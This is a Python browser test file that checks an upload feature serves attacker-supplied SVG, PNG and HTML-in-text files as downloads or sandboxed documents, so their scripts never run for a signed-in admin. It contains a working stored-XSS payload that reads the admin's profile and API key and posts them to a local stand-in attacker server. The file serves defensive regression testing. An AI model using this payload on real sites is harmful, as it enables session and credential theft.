"""Issue 15 item 1 in Chromium: an upload with a script, opened by a signed-in admin, runs nothing.

The attacker is any registered user: they upload a file whose script would read the admin's
``/account/profile`` (and API key) and send it to their own server. The same bytes served by
that server, as an ordinary site serves an SVG, do run in Chromium (the control): the site's
own answer is a download, and a picture opens as a picture in a sandboxed document.
"""
from __future__ import annotations

import http.server
import io
import threading
import urllib.parse

import pytest
import webtest
from PIL import Image

from pybossa_core.config import configure
from tests.browser.conftest import TIMEOUT, Visit
from tests.conftest import TEST_ENVIRON, LiveServer, app_settings, fresh_engine
from tests.factories import Committing
from tests.views.conftest import PASSWORD_HASH


class Listener:
    """The attacker's server: serves the payload as an ordinary SVG and records what reaches it."""

    def __init__(self):
        self.payload = b""
        self.received: list[tuple[str, bytes]] = []
        self.arrived = threading.Condition()
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header("Content-Type", "image/svg+xml")
                self.end_headers()
                self.wfile.write(listener.payload)

            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                with listener.arrived:
                    listener.received.append((self.path, body))
                    listener.arrived.notify_all()
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_port}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def wait_for(self, path: str) -> bytes:
        with self.arrived:
            assert self.arrived.wait_for(lambda: any(p == path for p, _ in self.received), timeout=TIMEOUT / 1000)
            return next(body for p, body in self.received if p == path)


def payload(listener_url: str) -> bytes:
    script = (
        f"fetch('{listener_url}/ran', {{method: 'POST', body: location.origin}});"
        "fetch('/account/profile', {headers: {Accept: 'application/json'}}).then(r => r.text())"
        f".then(text => fetch('{listener_url}/stolen', {{method: 'POST', body: text}}));"
    )
    return f'<svg xmlns="http://www.w3.org/2000/svg"><script>{script}</script></svg>'.encode()


@pytest.fixture(scope="module")
def svg_site(tmp_path_factory):
    """A live site whose deployer allowed SVG uploads (they are refused by default)."""
    with fresh_engine("sqlite", tmp_path_factory, "inert_uploads") as engine:
        settings = app_settings(engine, tmp_path_factory.mktemp("inert_uploads"),
                                **{"uploads.allowed_extensions": "png svg txt"})
        server = LiveServer(configure(settings, environ={}).make_wsgi_app())
        yield server
        server.server.shutdown()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.httpd.shutdown()
    server.httpd.server_close()


@pytest.fixture
def scene(svg_site):
    with Committing(svg_site) as make:
        admin = make.user(admin=True, passwd_hash=PASSWORD_HASH)
        attacker = make.user()
        project = make.project(attacker)
    return admin, attacker, project


def upload(site, attacker, project, name: str, content: bytes) -> str:
    """Upload ``content`` as a helping material, as the attacker; return its link."""
    answer = webtest.TestApp(site.app, extra_environ=TEST_ENVIRON).post(
        f"/api/helpingmaterial?api_key={attacker.api_key}", {"project_id": str(project.id)},
        upload_files=[("file", name, content)])
    return urllib.parse.urljoin(site.url, answer.json["media_url"])


@pytest.fixture
def admin_tab(sqlite_only, chromium, svg_site, scene):
    context = chromium.new_context(accept_downloads=True)
    tab = Visit(context, svg_site.url)
    tab.sign_in(scene[0])
    yield tab
    context.close()


def test_the_payload_runs_when_served_as_an_ordinary_svg(admin_tab, listener):
    listener.payload = payload(listener.url)
    admin_tab.page.goto(listener.url + "/logo.svg")
    assert listener.wait_for("/ran") == listener.url.encode()


def test_an_uploaded_svg_opened_by_an_admin_is_downloaded_not_run(admin_tab, listener, svg_site, scene):
    _, attacker, project = scene
    link = upload(svg_site, attacker, project, "logo.svg", payload(listener.url))
    page = admin_tab.page
    page.goto(f"{svg_site.url}/account/profile")
    with page.expect_download() as download:
        page.evaluate("link => { location.href = link; }", link)
    assert download.value.url == link
    # The admin stayed on the profile page: nothing of the upload was rendered, so nothing ran.
    assert page.url == f"{svg_site.url}/account/profile"
    assert listener.received == []


def test_an_uploaded_picture_opens_as_a_picture_in_a_sandboxed_document(admin_tab, svg_site, scene):
    _, attacker, project = scene
    image = io.BytesIO()
    Image.new("RGB", (8, 6), "teal").save(image, format="PNG")
    link = upload(svg_site, attacker, project, "bird.png", image.getvalue())
    page = admin_tab.page
    response = page.goto(link)
    assert response.headers["content-security-policy"] == "default-src 'none'; sandbox"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert page.evaluate("document.contentType") == "image/png"
    # The sandbox gives the document an opaque origin: the site's cookies are out of its reach.
    assert page.evaluate("self.origin") == "null"
    assert page.evaluate("(() => { try { return document.cookie; } catch (error) { return error.name; } })()") == "SecurityError"


def test_html_in_a_text_file_is_downloaded(admin_tab, listener, svg_site, scene):
    _, attacker, project = scene
    script = payload(listener.url).decode().replace("<svg", "<html").replace("</svg>", "</html>")
    link = upload(svg_site, attacker, project, "notes.txt", script.encode())
    page = admin_tab.page
    page.goto(f"{svg_site.url}/account/profile")
    with page.expect_download() as download:
        page.evaluate("link => { location.href = link; }", link)
    assert download.value.url == link and listener.received == []
